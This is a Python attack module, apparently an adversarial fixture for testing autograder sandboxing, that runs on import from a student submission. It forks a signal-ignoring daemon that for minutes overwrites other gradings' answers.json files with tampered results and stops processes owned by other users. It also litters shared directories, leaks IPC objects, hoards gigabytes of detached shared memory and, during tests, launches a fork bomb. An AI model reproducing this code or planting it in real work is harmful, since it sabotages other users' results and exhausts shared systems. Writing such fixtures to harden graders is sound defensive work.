
# ---- attack (appended to a student module): outlive the grading and touch the next one ----------
# In the answer step: a double-forked, setsid process that ignores what it can and, for minutes,
# overwrites every later answers.json it can reach and kills whatever it may; files left in every
# shared folder; SysV shared memory, message queue, semaphores and a POSIX message queue left behind;
# then shared memory hoarded (attached, filled, detached) far beyond the memory limit. In the public
# tests: a fork bomb.
import ctypes as _adv_ct
import glob as _adv_glob
import json as _adv_json
import os as _adv_os
import signal as _adv_signal
import sys as _adv_sys
import time as _adv_time

_ADV_TAMPER = {"probes": {"simple_net": {"error": "ADV-TAMPERED by a process of an earlier grading"}},
               "checkpoint_outputs": {}}


def _adv_step():
    if _adv_sys.argv and _adv_sys.argv[0].endswith("answers.py"):
        return "answers"
    if _adv_sys.argv and "pytest" in _adv_sys.argv[0]:
        return "public"
    return ""


def _adv_daemon():
    if _adv_os.fork():
        return
    _adv_os.setsid()
    if _adv_os.fork():
        _adv_os._exit(0)
    for sig in (_adv_signal.SIGTERM, _adv_signal.SIGHUP, _adv_signal.SIGINT, _adv_signal.SIGPIPE):
        _adv_signal.signal(sig, _adv_signal.SIG_IGN)
    own = _adv_os.path.realpath(".")
    end = _adv_time.time() + 300
    while _adv_time.time() < end:
        for folder in _adv_glob.glob("/tmp/proj4-grading-*/*/autograder/work/answers") + ["/autograder/work/answers"]:
            if _adv_os.path.realpath(folder) != own:
                try:
                    with open(_adv_os.path.join(folder, "answers.json"), "w") as f:
                        f.write(_adv_json.dumps(_ADV_TAMPER))
                except OSError:
                    pass
        try:
            with open("/tmp/adv-daemon-alive", "w") as f:
                f.write(str(_adv_time.time()))
        except OSError:
            pass
        for entry in _adv_os.listdir("/proc"):  # the runner and its killer (root): try to stop them
            try:
                if entry.isdigit() and _adv_os.stat(f"/proc/{entry}").st_uid != _adv_os.getuid():
                    _adv_os.kill(int(entry), _adv_signal.SIGSTOP)
            except OSError:
                pass
        _adv_time.sleep(0.1)
    _adv_os._exit(0)


def _adv_leave_files():
    for top in ("/tmp", "/var/tmp", "/dev/shm", "/run/lock", "/var/crash", "/dev/mqueue"):
        try:
            with open(f"{top}/adv-left-{_adv_os.getpid()}", "w") as f:
                f.write("left by an earlier grading")
            _adv_os.makedirs(f"{top}/adv-tree/a/b", exist_ok=True)
            for i in range(50):
                open(f"{top}/adv-tree/a/b/f{i}", "w").close()
        except OSError:
            pass


def _adv_ipc():
    libc = _adv_ct.CDLL(None, use_errno=True)
    libc.shmat.restype = _adv_ct.c_void_p
    libc.shmat.argtypes = [_adv_ct.c_int, _adv_ct.c_void_p, _adv_ct.c_int]
    libc.shmdt.argtypes = [_adv_ct.c_void_p]
    shmid = libc.shmget(0x7ADF00D, 1 << 20, 0o1666)  # IPC_CREAT | 0666
    if shmid >= 0:
        at = libc.shmat(shmid, None, 0)
        if at not in (None, 2**64 - 1):
            _adv_ct.memmove(at, b"ADV-SHM left by an earlier grading", 34)
            libc.shmdt(_adv_ct.c_void_p(at))
    libc.msgget(0x7ADF00E, 0o1666)
    libc.semget(0x7ADF00F, 4, 0o1666)
    try:
        rt = _adv_ct.CDLL("librt.so.1", use_errno=True)
        rt.mq_open(b"/adv-queue", _adv_os.O_CREAT | _adv_os.O_RDWR, 0o666, None)
    except OSError:
        pass


def _adv_hoard_shared_memory(total=3 << 30, chunk=64 << 20):
    """Attach, fill, detach: the pages stay in the segments, in no process's RSS."""
    libc = _adv_ct.CDLL(None, use_errno=True)
    libc.shmat.restype = _adv_ct.c_void_p
    libc.shmat.argtypes = [_adv_ct.c_int, _adv_ct.c_void_p, _adv_ct.c_int]
    libc.shmdt.argtypes = [_adv_ct.c_void_p]
    held = 0
    while held < total:
        shmid = libc.shmget(0, chunk, 0o1600)  # IPC_PRIVATE | IPC_CREAT
        if shmid < 0:
            break
        at = libc.shmat(shmid, None, 0)
        if at in (None, 2**64 - 1):
            break
        _adv_ct.memset(at, 1, chunk)
        libc.shmdt(_adv_ct.c_void_p(at))
        held += chunk
    print(f"ADV hoarded {held >> 20} MB of detached shared memory", flush=True)


def _adv_fork_bomb():
    children = 0
    while children < 5000:
        try:
            pid = _adv_os.fork()
        except OSError:
            break
        if pid == 0:  # small children: the process limit, not the memory limit, must stop them
            try:
                _adv_os.execv("/bin/sleep", ["sleep", "600"])
            finally:
                _adv_os._exit(0)
        children += 1
    raise RuntimeError(f"ADV fork bomb: {children} children before fork failed")  # shown in the feedback


if _adv_step() and not _adv_os.path.exists("adv-once"):
    open("adv-once", "w").close()
    if _adv_step() == "answers":
        _adv_daemon()
        _adv_leave_files()
        _adv_ipc()
        _adv_hoard_shared_memory()
    else:
        _adv_fork_bomb()
